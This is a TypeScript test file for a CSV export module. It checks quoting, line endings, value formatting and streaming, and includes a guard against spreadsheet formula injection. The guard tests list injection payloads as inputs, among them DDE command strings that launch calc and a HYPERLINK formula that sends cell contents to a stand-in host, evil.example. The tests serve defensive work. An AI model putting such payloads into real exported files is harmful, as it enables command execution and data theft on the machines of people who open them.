import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import type { Cell } from './cell.js';
import { csvDocument } from './csv-document.js';
import { withFormulaGuard, withoutFormulaGuard } from './formula-guard.js';

async function written(heads: readonly string[], rows: Iterable<readonly Cell[]>, hasByteOrderMark = false): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of csvDocument({ heads, rows, hasByteOrderMark })) chunks.push(chunk);
  return Buffer.concat(chunks).toString('utf8');
}

describe('a CSV document', () => {
  it('has a header, commas, CRLF, and quotes where they are needed', async () => {
    const rows = [
      ['Ana', 'a,b', 'say "hi"', 'two\r\nlines', ' blank '],
      ['', 'a;b', 'tab\there', null, 'é 王 🎉'],
    ];
    expect(await written(['name', 'a', 'b', 'c', 'd,e'], rows)).toBe(
      'name,a,b,c,"d,e"\r\n' + 'Ana,"a,b","say ""hi""","two\r\nlines"," blank "\r\n' + ',"a;b","tab\there",,é 王 🎉\r\n',
    );
  });

  it('has its header also when there are no rows, and a mark for spreadsheets on demand', async () => {
    expect(await written(['a', 'b'], [])).toBe('a,b\r\n');
    expect(await written(['a', 'b'], [], true)).toBe('\ufeffa,b\r\n');
  });

  it('writes numbers bare, times as RFC 3339, and text that looks like a number as text', async () => {
    const row = [-12.5, 0, -0, 1e21, 9007199254740993n, true, new Date(Date.UTC(2026, 0, 2, 3, 4, 5, 6)), '-12.5', '+62 21'];
    expect(
      await written(
        row.map((_, at) => `c${at}`),
        [row],
      ),
    ).toContain("\r\n-12.5,0,0,1e+21,9007199254740993,true,2026-01-02T03:04:05.006Z,'-12.5,'+62 21\r\n");
  });

  it('has no empty line for a row with one empty cell', async () => {
    expect(await written(['a'], [[''], [null]])).toBe('a\r\n""\r\n""\r\n');
  });

  it.each([NaN, Infinity, new Date(NaN)])('refuses %p, which no reader would read', async (cell) => {
    await expect(written(['a'], [[cell]])).rejects.toThrow(RangeError);
  });

  it('refuses a row that has not as many cells as there are heads', async () => {
    await expect(written(['a', 'b'], [[1]])).rejects.toThrow('A row has 1 cells, the header 2.');
  });

  it('is read back the same by another reader, whatever its texts are', async () => {
    const texts = fc.string({
      unit: fc.oneof(
        fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
        fc.constantFrom('"', ',', ';', '\t', '\r', '\n', ' ', "'", '='),
      ),
    });
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(texts, texts), { maxLength: 10 }), async (rows) => {
        const read: string[][] = parse(await written(['a', 'b'], rows), { record_delimiter: '\r\n' });
        expect(read.slice(1).map((row) => row.map(withoutFormulaGuard))).toEqual(rows);
      }),
    );
  });

  it('asks for no more rows than the chunks that are taken need, and lets go of them when no more are', async () => {
    let asked = 0;
    let isClosed = false;
    function* rows(): Generator<Cell[]> {
      try {
        for (;;) {
          asked++;
          yield ['x'.repeat(100)];
        }
      } finally {
        isClosed = true;
      }
    }
    for await (const chunk of csvDocument({ heads: ['a'], rows: rows(), hasByteOrderMark: false })) {
      expect(chunk.length).toBeGreaterThanOrEqual(64 * 1024);
      break;
    }
    expect(asked).toBeLessThan(700);
    expect(isClosed).toBe(true);
  });
});

describe('text that a spreadsheet takes for a formula', () => {
  it.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    '+62 21 555',
    '-2+3',
    '-',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '@ana',
    '\t=1+1',
    '\tx',
    '\r=1+1',
    '\rx',
    '\n=1+1',
    '\nx',
    '\0=1+1',
    '  =1+1',
    '\u00a0=1+1',
    '\u3000=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '\u202e=1+1',
    '"=1+1"',
    "'=1+1",
    '\'"  =1+1',
    '"\t=1',
    '\uff1d1+1',
    '\uff0b1+1',
    '\uff0d1+1',
    '\uff20SUM(1)',
    '\ufe661+1',
    '\ufe621+1',
    '\ufe631+1',
    '\ufe6bSUM(1)',
  ])('gets a single quote before it: %j', async (text) => {
    expect(withFormulaGuard(text)).toBe(`'${text}`);
    expect(withoutFormulaGuard(`'${text}`)).toBe(text);
    const read: string[][] = parse(await written([text], [[text]]), { record_delimiter: '\r\n' });
    expect(read).toEqual([[`'${text}`], [`'${text}`]]);
  });

  it.each(['', 'Ana', 'a=b', '1-2', '(+62)', "O'Brien", "'quoted'", ' ', 'ana@b.example', '\u2212 5', '#REF!', '王'])(
    'is none, and stays as it is: %j',
    (text) => {
      expect(withFormulaGuard(text)).toBe(text);
      expect(withoutFormulaGuard(text)).toBe(text);
    },
  );

  it('comes out as it was, whatever it is', () => {
    const texts = fc.string({
      unit: fc.constantFrom("'", '"', '=', '+', '-', '@', '\t', '\r', '\n', ' ', '\0', 'a', '\uff1d', '\u200b'),
    });
    fc.assert(
      fc.property(texts, (text) => {
        expect(withoutFormulaGuard(withFormulaGuard(text))).toBe(text);
      }),
      { numRuns: 5_000 },
    );
  });
});
